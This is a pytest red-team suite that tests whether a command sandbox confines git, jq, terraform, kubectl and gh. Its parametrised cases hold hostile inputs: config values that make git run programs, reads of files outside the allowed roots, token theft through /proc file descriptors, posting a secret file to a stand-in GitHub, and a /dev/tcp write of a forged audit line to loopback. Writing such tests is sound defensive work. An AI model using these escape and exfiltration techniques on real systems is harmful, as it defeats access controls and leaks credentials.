"""Red team, round 3: the binary tables (issue 11) and confinement (issue 12) from outside.

Real binaries (git, jq, terraform, gcc for a probe the sandbox runs), a private Home, no
network. A test marked xfail(strict) is an attack that still succeeds: it asserts the
secure behaviour and fails on this code. The others guard a variant that is refused.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from support.audit import trail_records
from support.git_repos import GIT_IDENTITY, git, pushed_clone
from support.listeners import hanging_proxy
from support.terraform_dirs import copy_of_applied_terraform, terraform_state

SECRET = "TOPSECRET-r3"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A directory beside the work directory, in no root, holding a secret."""
    path = tmp_path / "outside"
    path.mkdir()
    (path / "creds.json").write_text(f'{{"secret": "{SECRET}"}}\n')
    (path / "secret.txt").write_text(f"{SECRET}\n")
    return path


@pytest.fixture
def no_bwrap(tmp_path: Path) -> Path:
    """A trusted directory holding the tools but not bwrap: `auto` runs read/write unconfined."""
    bin_dir = tmp_path / "nobwrap-bin"
    bin_dir.mkdir()
    for tool in ("git", "jq", "terraform"):
        real = shutil.which(tool)
        assert real is not None, tool
        os.symlink(real, bin_dir / tool)
    return bin_dir


@pytest.fixture
def unconfined(runtime: Any, tmp_path: Path, work: Path, no_bwrap: Path) -> Any:
    """`runtime` under a narrow document (roots: the work directory) with bwrap absent."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [git, jq, terraform]\n"
        f"command_policy:\n  search_path: [{no_bwrap}]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    (work / "sub").mkdir()

    def call(*args: str) -> Any:
        return runtime(*args, env={"RUNTIME_POLICY_FILE": str(policy), **GIT_IDENTITY})

    return call


@pytest.fixture
def confined(runtime: Any, tmp_path: Path, work: Path) -> Any:
    """The same narrow document with the sandbox working (bwrap on the trusted path)."""
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [git, jq, terraform]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    (work / "sub").mkdir()

    def call(*args: str) -> Any:
        return runtime(*args, env={"RUNTIME_POLICY_FILE": str(policy), **GIT_IDENTITY})

    return call


def init_repo(path: Path) -> None:
    git(path, "init", "-q", "-b", "main", str(path))
    (path / "f.txt").write_text("x\n")
    git(path, "add", "f.txt")
    git(path, "commit", "-qm", "x")


# --- issue 11: a force push spelled --force-with-lease -------------------------------------------
# Open, and a decision for the maintainers: tests/security/test_redteam_git_force.py
# ::test_the_ordinary_forms_stay_allowed keeps `push --force-with-lease` allowed on purpose,
# yet it replaces the remote's history exactly as `push --force` does (shown here).


@pytest.fixture
def diverged(tmp_path: Path) -> Path:
    """A clone whose main was rewritten after it was pushed to a bare remote beside it."""
    clone = pushed_clone(tmp_path)
    git(clone, "commit", "-q", "--amend", "-m", "rewritten")
    return clone


@pytest.mark.parametrize(
    "args",
    [
        ["push", "--force-with-lease", "origin", "main"],
        ["push", "origin", "main", "--force-with-lease=main"],
        ["push", "--force-w", "origin", "main"],  # git's own abbreviation of it
    ],
)
def test_force_with_lease_is_a_denied_force_push(
    args: list[str], diverged: Path, runtime: Any, tmp_path: Path
) -> None:
    """Compiled rules (`push --force` denied), roots over the clone and its remote: the
    lease variant rewrites the remote's main just as `--force` would."""
    policy = tmp_path / "roots.yaml"
    policy.write_text(
        "schema_version: 3\n"
        f"file_policy:\n  read_roots: [{str(tmp_path)!r}]\n  write_roots: [{str(tmp_path)!r}]\n"
    )
    remote = tmp_path / "remote.git"
    before = git(remote, "rev-parse", "main")
    run = runtime(
        "command", "run", "git", *args, cwd=diverged, env={"RUNTIME_POLICY_FILE": str(policy)}
    )
    assert git(remote, "rev-parse", "main") == before
    assert run.code == 4 and 'command_policy.rules.git.denied "push --force"' in run.stderr, run


# --- issue 12, `auto` without bwrap: paths the path guard never judges ----------------------------


def test_unconfined_jq_module_search_cannot_read_outside_the_roots(
    unconfined: Any, outside: Path
) -> None:
    """The directory sits inside the jq program text, which the guard reads as no path."""
    program = f'import "creds" as $c {{search: "{outside}"}}; $c'
    run = unconfined("command", "run", "jq", "-n", program)
    assert SECRET not in run.stdout, run
    assert run.code == 4, run


def test_unconfined_jq_rawfile_outside_the_roots_is_refused(unconfined: Any, outside: Path) -> None:
    run = unconfined(
        "command", "run", "jq", "-n", "--rawfile", "x", str(outside / "secret.txt"), "$x"
    )
    assert run.code == 4 and "outside file_policy.read_roots" in run.stderr, run
    assert SECRET not in run.stdout


def test_unconfined_git_dash_c_cannot_read_a_file_outside_the_roots(
    unconfined: Any, work: Path, outside: Path
) -> None:
    """`../../outside/secret.txt` from work/sub is the secret; judged from work it names a
    directory that does not exist, so the guard lets it through as no path at all."""
    init_repo(work)
    stored = unconfined("command", "run", "git", "-C", "sub", "hash-object", "-w",
                        "../../outside/secret.txt")  # fmt: skip
    oid = stored.stdout.strip()
    shown = unconfined("command", "run", "git", "cat-file", "-p", oid) if oid else None
    assert shown is None or SECRET not in shown.stdout, shown
    assert stored.code == 4, stored


def test_unconfined_git_dash_c_cannot_write_outside_the_write_roots(
    unconfined: Any, work: Path, outside: Path
) -> None:
    init_repo(work)
    run = unconfined("command", "run", "git", "-C", "sub", "bundle", "create",
                     "../../outside/planted.bundle", "HEAD")  # fmt: skip
    assert not (outside / "planted.bundle").exists(), run
    assert run.code == 4, run


def test_unconfined_git_bundle_outside_without_dash_c_is_refused(
    unconfined: Any, work: Path, outside: Path
) -> None:
    init_repo(work)
    run = unconfined("command", "run", "git", "bundle", "create", "../outside/b.bundle", "HEAD")
    assert run.code == 4 and "outside file_policy.write_roots" in run.stderr, run
    assert not (outside / "b.bundle").exists()


def test_unconfined_terraform_chdir_cannot_rewrite_files_outside_the_roots(
    unconfined: Any, outside: Path
) -> None:
    """`terraform fmt` (write) rewrites every .tf file in the directory it is given."""
    target = outside / "tf"
    target.mkdir()
    (target / "main.tf").write_text('variable "x" {\ndefault="a"\n}\n')
    before = (target / "main.tf").read_text()
    run = unconfined("command", "run", "terraform", "-chdir=sub", "fmt", "../../outside/tf")
    assert (target / "main.tf").read_text() == before, run
    assert run.code == 4, run


def test_unconfined_git_core_worktree_cannot_move_the_work_tree_outside(
    unconfined: Any, work: Path, outside: Path
) -> None:
    """Two write commands: `git config core.worktree ../../outside/wt` (relative to .git,
    judged from the work directory), then `git checkout-index -a` writes every file there."""
    init_repo(work)
    (outside / "wt").mkdir()
    moved = unconfined("command", "run", "git", "config", "core.worktree", "../../outside/wt")
    assert moved.code == 4 and 'git configuration "core.worktree" is refused' in moved.stderr
    for spelling in (["-c", "core.worktree=../../outside/wt"], ["-c", "Core.WorkTree=../x"]):
        refused = unconfined("command", "run", "git", *spelling, "status")
        assert refused.code == 4, refused
    unconfined("command", "run", "git", "checkout-index", "-a")
    assert list((outside / "wt").iterdir()) == []


# --- the same attacks with the sandbox working: nothing outside is reachable --------------------


def test_confined_jq_module_search_sees_nothing_outside(confined: Any, outside: Path) -> None:
    program = f'import "creds" as $c {{search: "{outside}"}}; $c'
    run = confined("command", "run", "jq", "-n", program)
    assert run.code != 0 and SECRET not in run.stdout, run


def test_confined_git_dash_c_writes_nothing_outside(
    confined: Any, work: Path, outside: Path
) -> None:
    init_repo(work)
    run = confined("command", "run", "git", "-C", "sub", "bundle", "create",
                   "../../outside/planted.bundle", "HEAD")  # fmt: skip
    assert run.code != 0 and not (outside / "planted.bundle").exists(), run


def test_confined_git_core_worktree_writes_nothing_outside(
    confined: Any, work: Path, outside: Path
) -> None:
    init_repo(work)
    (outside / "wt").mkdir()
    confined("command", "run", "git", "config", "core.worktree", "../../outside/wt")
    confined("command", "run", "git", "checkout-index", "-a")
    assert list((outside / "wt").iterdir()) == []


# --- issue 12: the seccomp filter against the other doors to a setuid file ---------------------

PROBE = Path(__file__).parent / "probes" / "special_modes.c"
REFUSED = {
    "setxattr-capability": "EPERM",  # no CAP_SETFCAP: a file capability is as good as setuid
    "int80-chmod": "EPERM",  # the i386 ABI from a 64-bit process
    "x32-chmod": "EPERM",
    "fchmodat2": "EPERM",
    "openat2": "ENOSYS",  # its mode sits in a struct: callers fall back to openat
    "io_uring_setup": "ENOSYS",
    "open-creat": "EPERM",
    "mknod": "EPERM",
    "unshare-user": "EPERM",
    "chmod-via-proc-fd": "EPERM",
}


def test_a_sandboxed_program_finds_no_other_door_to_a_setuid_file(runtime: Any, work: Path) -> None:
    """A terraform local-exec (compiled defaults: apply runs, confined) starts a compiled
    program that tries each syscall the filter must close; none leaves a special mode.
    The probe speaks the x86_64 ABIs (the machine these tests run on)."""
    import stat

    built = subprocess.run(
        ["gcc", "-no-pie", "-o", str(work / "probe"), str(PROBE)], capture_output=True, text=True
    )
    assert built.returncode == 0, built.stderr
    (work / "main.tf").write_text(
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
        '    command = "./probe > probe.txt 2>&1"\n  }\n}\n'
    )
    assert runtime("command", "run", "terraform", "init", "-input=false").code == 0
    applied = runtime("command", "run", "terraform", "apply", "-auto-approve", "-input=false")
    assert applied.code == 0, applied
    results = dict(line.split() for line in (work / "probe.txt").read_text().splitlines())
    assert results == REFUSED
    for path in work.iterdir():
        assert not path.stat().st_mode & (stat.S_ISUID | stat.S_ISGID), path
    assert "security.capability" not in os.listxattr(work / "plain")


# --- issue 11: deleting unreachable history with write commands -----------------------------------
# Fixed in this round (src/runtime/policy/floor/git.py): `gc --prune=...` is `prune`, and the
# expiry settings that make a plain gc prune are refused like clean.requireForce.


@pytest.mark.parametrize("args", [["gc", "--prune=now"], ["gc", "--prune=all", "--quiet"]])
def test_gc_prune_now_keeps_unreachable_commits_under_the_compiled_defaults(
    args: list[str], runtime: Any, work: Path
) -> None:
    """`git prune` is delete (refused by effects [read, write]); gc --prune=now does the same:
    a commit no ref or reflog reaches (a `branch -D`'d branch) is gone for good."""
    init_repo(work)
    tree = git(work, "rev-parse", "HEAD^{tree}")
    lost = git(work, "commit-tree", tree, "-p", "HEAD", "-m", "only copy")
    ran = runtime("command", "run", "git", *args)
    kept = subprocess.run(["git", "cat-file", "-e", lost], cwd=work, capture_output=True)
    assert kept.returncode == 0, ran
    assert ran.code == 4 and "command_policy.effects.default" in ran.stderr, ran


@pytest.mark.parametrize(
    "key", ["gc.pruneExpire", "gc.reflogExpireUnreachable", "core.logAllRefUpdates"]
)
def test_expiry_settings_that_make_gc_prune_are_refused(key: str, runtime: Any, work: Path) -> None:
    init_repo(work)
    before = (work / ".git" / "config").read_bytes()
    run = runtime("--output", "json", "command", "run", "git", "config", key, "now")
    assert run.code == 4 and "safety floor" in run.json["error"]["message"], run
    assert (work / ".git" / "config").read_bytes() == before


def test_gc_without_an_expiry_still_runs(runtime: Any, work: Path) -> None:
    init_repo(work)
    assert runtime("command", "run", "git", "gc", "--quiet").code == 0


def test_plain_prune_is_refused_as_delete(runtime: Any, work: Path) -> None:
    init_repo(work)
    run = runtime("--output", "json", "resolve", "command", "run", "git", "prune")
    assert run.json["output"]["decision"]["rule"] == "command_policy.effects.default", run


# --- issue 11: git spellings that run programs, judged by the table without running -------------


@pytest.mark.parametrize(
    "args",
    [
        ["config", "core.pager", "touch /tmp/x"],
        ["config", "core.editor", "touch /tmp/x"],
        ["config", "sequence.editor", "touch /tmp/x"],
        ["config", "diff.external", "touch"],
        ["config", "filter.lfs.clean", "touch /tmp/x"],
        ["config", "credential.https://example.com.helper", "!touch /tmp/x"],
        ["config", "gpg.program", "touch"],
        ["config", "gpg.ssh.program", "touch"],
        ["config", "core.askPass", "touch"],
        ["config", "uploadpack.packObjectsHook", "touch"],
        ["config", "CORE.PAGER", "touch"],  # keys are case-insensitive
        ["config", "set", "core.pager", "touch"],  # git 2.46's spelling
        ["config", "--add", "core.sshCommand", "touch"],
        ["config", "--file=.git/config", "core.pager", "touch"],
        ["config", "-f", ".git/config", "alias.st", "!touch /tmp/x"],
        ["config", "--replace-all", "include.path", "../evil"],
        ["config", "submodule.x.update", "!touch /tmp/x"],
        ["config", "interactive.diffFilter", "touch"],
        ["-c", "alias.x=!sh", "x"],
        ["-calias.x=!sh", "x"],
        ["--config-env=alias.x=HOME", "x"],
        ["submodule", "foreach", "touch /tmp/x"],
        ["submodule", "--quiet", "foreach", "--recursive", "touch /tmp/x"],
        ["bisect", "run", "touch", "/tmp/x"],
        ["difftool", "-x", "touch", "HEAD"],
        ["difftool", "--extcmd=touch", "HEAD"],
        ["rebase", "--exe=touch /tmp/x", "HEAD"],
        ["rebase", "-ix", "touch /tmp/x", "HEAD"],
        ["grep", "-O", "touch", "x"],
        ["grep", "--open-files-in-pager=touch", "x"],
        ["clone", "-c", "core.pager=touch", "a", "b"],
        ["clone", "--config=core.pager=touch", "a", "b"],
    ],
)
def test_git_spellings_that_run_programs_are_refused(args: list[str], runtime: Any) -> None:
    run = runtime("--output", "json", "resolve", "command", "run", "git", *args)
    assert run.code == 4, run
    decision = run.json["output"]["decision"]
    assert decision["rule"] in ("safety floor", "command_policy.effects.default"), decision


# --- issue 11: terraform destroy reached through a saved plan or an emptied configuration -----


@pytest.fixture
def applied(applied_terraform_original: Path, tmp_path: Path) -> Path:
    return copy_of_applied_terraform(applied_terraform_original, tmp_path)


@pytest.mark.parametrize("out", [["-out=d.tfplan"], ["-out", "d.tfplan"]])
def test_a_saved_destroy_plan_cannot_be_applied(
    out: list[str], applied: Path, runtime: Any
) -> None:
    """`plan -destroy` is a read and `apply PLANFILE` a write: together the denied destroy."""
    runtime("command", "run", "terraform", "plan", "-destroy", "-input=false", *out, cwd=applied)
    ran = runtime("command", "run", "terraform", "apply", "-input=false", "d.tfplan", cwd=applied)
    assert terraform_state(applied) == "terraform_data.keep", ran


# Fixed (src/runtime/engines/terraform_plan.py): where terraform may not delete, an apply is
# planned by the runtime and judged by `show -json` before anything is applied.
def test_apply_of_an_emptied_configuration_does_not_destroy(
    applied: Path, runtime: Any, home: Path
) -> None:
    """`files write main.tf ""` then `apply`: terraform destroys every resource in the state
    without the word destroy; only the plan (terraform show -json) says so."""
    assert runtime("files", "write", "main.tf", "", cwd=applied).code == 0
    ran = runtime(
        "command", "run", "terraform", "apply", "-auto-approve", "-input=false", cwd=applied
    )
    assert terraform_state(applied) == "terraform_data.keep", ran
    assert ran.code == 4, ran
    assert "command_policy.effects.default" in ran.stderr
    assert "its plan destroys terraform_data.keep" in ran.stderr
    kinds = [(r["kind"], r.get("args", [None])[0]) for r in trail_records(home)]
    assert kinds[-2:] == [("intent", "apply"), ("outcome", None)], kinds
    outcome = trail_records(home)[-1]
    assert (outcome["outcome"], outcome["exit_code"], outcome["rule"]) == (
        "denied", 4, "command_policy.effects.default"
    )  # fmt: skip
    assert outcome["judged_effect"] == "delete"
    assert outcome["plan"]["destroyed"] == ["terraform_data.keep"]


def test_plan_destroy_itself_changes_nothing(applied: Path, runtime: Any) -> None:
    ran = runtime("command", "run", "terraform", "plan", "-destroy", "-input=false", cwd=applied)
    assert ran.code == 0, ran
    assert terraform_state(applied) == "terraform_data.keep"


# --- issue 11: kubectl delete namespace under a document that lets kubectl delete ---------------
# Fixed in this round (src/runtime/policy/floor/kube.py, src/runtime/policy/rules.py): a
# short option's value written on (`-fns.yaml`) was read as no file, and a namespace named
# after another kind (`pods,ns`) was not the rule's first kind.

KUBECTL_DELETES = "schema_version: 3\ncommand_policy:\n  effects:\n    default: [read, write]\n    kubectl: [read, write, delete]\n"


@pytest.mark.parametrize(
    "args",
    [
        ["delete", "-fns.yaml"],
        ["delete", "-kdir"],
        ["delete", "pods,ns", "--all"],
        ["delete", "pod/web", "ns/prod"],
        ["delete", "-Rfdir"],
    ],
)
def test_kubectl_delete_namespace_spellings_are_the_compiled_rule(
    args: list[str], runtime: Any, tmp_path: Path
) -> None:
    policy = tmp_path / "kubectl-deletes.yaml"
    policy.write_text(KUBECTL_DELETES)
    run = runtime(
        "--output", "json", "resolve", "command", "run", "kubectl", *args,
        env={"RUNTIME_POLICY_FILE": str(policy)},
    )  # fmt: skip
    assert run.code == 4, run
    assert run.json["output"]["decision"]["rule"] == (
        'command_policy.rules.kubectl.denied "delete namespace"'
    )


def test_kubectl_delete_of_other_kinds_still_runs_under_that_document(
    runtime: Any, tmp_path: Path
) -> None:
    policy = tmp_path / "kubectl-deletes.yaml"
    policy.write_text(KUBECTL_DELETES)
    for args in (["delete", "pods", "web"], ["delete", "pod/web", "deploy/api"]):
        run = runtime(
            "--output", "json", "resolve", "command", "run", "kubectl", *args,
            env={"RUNTIME_POLICY_FILE": str(policy)},
        )  # fmt: skip
        assert run.code == 0, (args, run)


# --- gh reads a file named inside a field value (`-F body=@FILE`) --------------------------------


def gh_policy(tmp_path: Path, search_path: str = "") -> Path:
    policy = tmp_path / "gh-policy.yaml"
    search = f"  search_path: [{search_path}]\n" if search_path else ""
    policy.write_text(
        "schema_version: 3\nallowed_binaries: [gh, git, jq, terraform]\n"
        f"command_policy:\n{search}  effects:\n    default: [read, write]\n"
        "file_policy:\n  read_roots: [.]\n  write_roots: [.]\n"
    )
    return policy


FIELD_FILE_SPELLINGS = [
    ["-F", "body=@{secret}"],
    ["--field", "body=@{secret}"],
    ["--field=body=@{secret}"],
    ["-Fbody=@{secret}"],
]


def gh_post_issue(
    runtime: Any, policy: Path, spelling: list[str], secret: Path
) -> tuple[Any, bytes]:
    from providers.github.standin_env import runtime_env
    from support.github_standin import GitHubStandIn
    from support.github_standin.fixtures import require_gh

    require_gh()
    words = [w.format(secret=secret) for w in spelling]
    with GitHubStandIn() as standin:
        env = {**runtime_env(standin), "RUNTIME_POLICY_FILE": str(policy)}
        ran = runtime("command", "run", "gh", "api", "-X", "POST",
                      "repos/acme/payments-api/issues", "-F", "title=t", *words, env=env)  # fmt: skip
        bodies = b"".join(r.body for r in standin.requests)
    return ran, bodies


@pytest.mark.parametrize("spelling", FIELD_FILE_SPELLINGS)
def test_confined_gh_cannot_post_a_file_outside_the_roots(
    spelling: list[str], runtime: Any, tmp_path: Path, outside: Path
) -> None:
    ran, bodies = gh_post_issue(runtime, gh_policy(tmp_path), spelling, outside / "secret.txt")
    assert SECRET.encode() not in bodies, ran


@pytest.mark.parametrize("spelling", FIELD_FILE_SPELLINGS)
def test_unconfined_gh_cannot_post_a_file_outside_the_roots(
    spelling: list[str], runtime: Any, tmp_path: Path, outside: Path
) -> None:
    bin_dir = tmp_path / "nobwrap-gh"
    bin_dir.mkdir()
    for tool in ("gh", "git"):
        os.symlink(str(shutil.which(tool)), bin_dir / tool)
    policy = gh_policy(tmp_path, search_path=str(bin_dir))
    ran, bodies = gh_post_issue(runtime, policy, spelling, outside / "secret.txt")
    assert SECRET.encode() not in bodies, ran


# --- a local repository outside the roots named as a file:// URL ---------------------------------


def outside_repository(outside: Path) -> Path:
    repo = outside / "repo"
    repo.mkdir()
    init_repo(repo)
    (repo / "s.txt").write_text(f"{SECRET}\n")
    git(repo, "add", "s.txt")
    git(repo, "commit", "-qm", "s")
    return repo


def test_unconfined_git_cannot_clone_a_repository_outside_the_roots_by_file_url(
    unconfined: Any, work: Path, outside: Path
) -> None:
    repo = outside_repository(outside)
    ran = unconfined("command", "run", "git", "clone", "-q", f"file://{repo}", "stolen")
    assert not (work / "stolen" / "s.txt").exists(), ran
    assert ran.code == 4, ran


def test_unconfined_git_clone_of_the_plain_path_is_refused(
    unconfined: Any, work: Path, outside: Path
) -> None:
    repo = outside_repository(outside)
    ran = unconfined("command", "run", "git", "clone", "-q", str(repo), "stolen")
    assert ran.code == 4 and "outside file_policy.read_roots" in ran.stderr, ran
    assert not (work / "stolen").exists()


def test_confined_git_clone_by_file_url_sees_nothing_outside(
    confined: Any, work: Path, outside: Path
) -> None:
    repo = outside_repository(outside)
    ran = confined("command", "run", "git", "clone", "-q", f"file://{repo}", "stolen")
    assert ran.code != 0 and not (work / "stolen" / "s.txt").exists(), ran


# --- issue 11: abbreviations, bundles and `=value` spellings of git's denied rules ---------------
# `update-ref --stdi` (git's abbreviation of --stdin) was a write: fixed in this round
# (src/runtime/policy/floor/git.py gives update-ref its --stdin for abbreviations).


@pytest.mark.parametrize(
    ("args", "rule"),
    [
        (["update-ref", "--stdi"], "update-ref -d"),
        (["update-ref", "--std", "-z"], "update-ref -d"),
        (["push", "--mirro", "origin"], "push --force"),
        (["push", "-qf", "origin"], "push -f"),
        (["push", "--force=yes"], "push --force"),
        (["push", "--no-force", "--force"], "push --force"),
        (["--no-pager", "push", "--tags", "-f"], "push -f"),
        (["reset", "--ha"], "reset --hard"),
        (["reset", "--hard=x"], "reset --hard"),
        (["read-tree", "--rese", "-u", "HEAD"], "reset --hard"),
        (["switch", "--discard", "main"], "reset --hard"),
        (["clean", "-ffd"], "clean -fd"),
    ],
)
def test_git_denied_rules_cover_abbreviated_and_bundled_spellings(
    args: list[str], rule: str, runtime: Any
) -> None:
    run = runtime("--output", "json", "resolve", "command", "run", "git", *args)
    assert run.code == 4, run
    assert run.json["output"]["decision"]["rule"] == f'command_policy.rules.git.denied "{rule}"'


def test_other_update_ref_and_stdin_spellings_stay_writes(runtime: Any) -> None:
    for args in (["update-ref", "refs/heads/x", "HEAD"], ["rev-list", "--stdin"],
                 ["restore", "--st", "f.txt"]):  # fmt: skip
        run = runtime("--output", "json", "resolve", "command", "run", "git", *args)
        assert run.code == 0, (args, run)


# --- issue 12: gh's hosts file read through /proc/<gh pid>/fd by an unconfined sibling -----------


def _descendants_named(root: int, name: str) -> list[int]:
    parents: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat_line = Path(f"/proc/{entry}/stat").read_text()
            except OSError:
                continue
            parents[int(entry)] = int(stat_line.rpartition(")")[2].split()[1])
    found = []
    for pid in parents:
        ancestor = pid
        while ancestor in parents and ancestor != root:
            ancestor = parents[ancestor]
        with_name = (
            Path(f"/proc/{pid}/comm").read_text().strip() == name if ancestor == root else False
        )
        if with_name:
            found.append(pid)
    return found


def test_an_unconfined_sibling_cannot_open_ghs_hosts_descriptor(
    runtime: Any, work: Path, tmp_path: Path
) -> None:
    """Runtime A (no bwrap) hands gh the token in a descriptor while gh waits on a proxy that
    never answers; runtime B (no bwrap, read root /: supported, the own files stay hidden)
    runs jq on /proc/<gh pid>/fd/N, which opens A's descriptor itself."""
    import base64
    import signal
    import time

    from support.cli import RUNTIME, clean_env
    from support.github_standin.fixtures import require_gh

    require_gh()
    token = "ghp_" + "R3dT3amThree" * 3
    bin_dir = tmp_path / "nobwrap-bin"
    bin_dir.mkdir()
    for tool in ("gh", "jq"):
        os.symlink(str(shutil.which(tool)), bin_dir / tool)
    policy = tmp_path / "policy.yaml"
    policy.write_text(
        f"schema_version: 3\nallowed_binaries: [gh, jq]\ncommand_policy:\n  search_path: [{bin_dir}]\n"
        "file_policy:\n  read_roots: [/]\n  write_roots: [.]\n"
    )
    server, port, held = hanging_proxy()
    proxy = f"http://127.0.0.1:{port}"
    env_a = clean_env(
        tmp_path / "home-a", RUNTIME_POLICY_FILE=str(policy), RUNTIME_GITHUB_TOKEN=token,
        HTTPS_PROXY=proxy, https_proxy=proxy, NO_PROXY="", no_proxy="",
    )  # fmt: skip
    runtime_a = subprocess.Popen(
        [RUNTIME, "command", "run", "gh", "api", "/user"],
        cwd=work, env=env_a, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        start_new_session=True,
    )  # fmt: skip
    leaked = b""
    try:
        for _ in range(600):  # wait (bounded) until gh, token in hand, talks to the proxy
            if held or runtime_a.poll() is not None:
                break
            time.sleep(0.05)
        assert held, "gh of runtime A never reached the proxy"
        gh_pids = _descendants_named(runtime_a.pid, "gh")
        assert gh_pids, "gh of runtime A not found"
        for pid in gh_pids:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                path = f"/proc/{pid}/fd/{fd}"
                with contextlib.suppress(OSError):
                    if "memfd" not in os.readlink(path) and "runtime" not in os.readlink(path):
                        continue
                read = runtime("command", "run", "jq", "-Rr", "@base64", path,
                               env={"RUNTIME_POLICY_FILE": str(policy)})  # fmt: skip
                leaked += b"".join(base64.b64decode(line) for line in read.stdout.split())
    finally:
        os.killpg(runtime_a.pid, signal.SIGTERM)
        runtime_a.wait(timeout=30)
        server.close()
    assert token.encode() not in leaked


# --- environment and planted repositories: the guards hold ---------------------------------------


def test_the_callers_tf_cli_args_do_not_turn_apply_into_destroy(
    applied: Path, runtime: Any
) -> None:
    hostile = {"TF_CLI_ARGS_apply": "-destroy", "TF_CLI_ARGS": "-destroy"}
    ran = runtime("command", "run", "terraform", "apply", "-auto-approve", "-input=false",
                  cwd=applied, env=hostile)  # fmt: skip
    assert ran.code == 0, ran
    assert terraform_state(applied) == "terraform_data.keep"


def test_the_callers_git_program_variables_do_not_run(runtime: Any, work: Path) -> None:
    init_repo(work)
    (work / "f.txt").write_text("changed\n")
    marker = work / "ran"
    hostile = {
        "GIT_EXTERNAL_DIFF": f"touch {marker}",
        "GIT_PAGER": f"touch {marker}",
        "GIT_EDITOR": f"touch {marker}",
        "GIT_DIR": str(work / "nowhere"),
    }
    ran = runtime("command", "run", "git", "diff", env=hostile)
    assert ran.code == 0 and "changed" in ran.stdout, ran
    assert not marker.exists()


def test_a_gitdir_planted_through_the_files_provider_is_never_used(
    unconfined: Any, work: Path, outside: Path
) -> None:
    """`git init --bare planted` (write), then `files write planted/config` (no .git in the
    path) with a work tree and diff.external: git in it must not run the program, even
    unconfined (safe.bareRepository=explicit)."""
    marker = outside / "diff-ran"
    assert unconfined("command", "run", "git", "init", "-q", "--bare", "planted").code == 0
    config = (
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
        f"\tworktree = {work}\n[diff]\n\texternal = sh -c 'touch {marker}' --\n"
    )
    assert unconfined("files", "write", "planted/config", config).code == 0
    unconfined("command", "run", "git", "-C", "planted", "diff")
    assert not marker.exists()


# --- issue 12: a network child reaches the host's loopback services --------------------------------


@pytest.mark.xfail(
    strict=True,
    reason="open (red team 3): a sandboxed child with network reaches the host's loopback "
    "(the audit collector, any local service)",
)
def test_a_sandboxed_network_child_cannot_reach_the_hosts_loopback(
    runtime: Any, work: Path
) -> None:
    """terraform apply (compiled defaults: network, confined) runs a local-exec that writes a
    forged RFC 5424 line to a listener on 127.0.0.1, where an audit collector would listen:
    the host's loopback is shared with the sandbox."""
    import socket

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    forged = "<14>1 - - runtime - - - forged"
    (work / "main.tf").write_text(
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
        f"    command = \"echo '{forged}' | timeout 5 bash -c 'cat > /dev/tcp/127.0.0.1/{port}'\"\n"
        "  }\n}\n"
    )
    received: list[bytes] = []
    try:
        assert runtime("command", "run", "terraform", "init", "-input=false").code == 0
        runtime("command", "run", "terraform", "apply", "-auto-approve", "-input=false")
        server.setblocking(False)  # a connection made during apply waits in the backlog
        with contextlib.suppress(BlockingIOError):
            connection, _ = server.accept()
            connection.settimeout(5)
            received.append(connection.recv(200))
            connection.close()
    finally:
        server.close()
    assert received == [], received
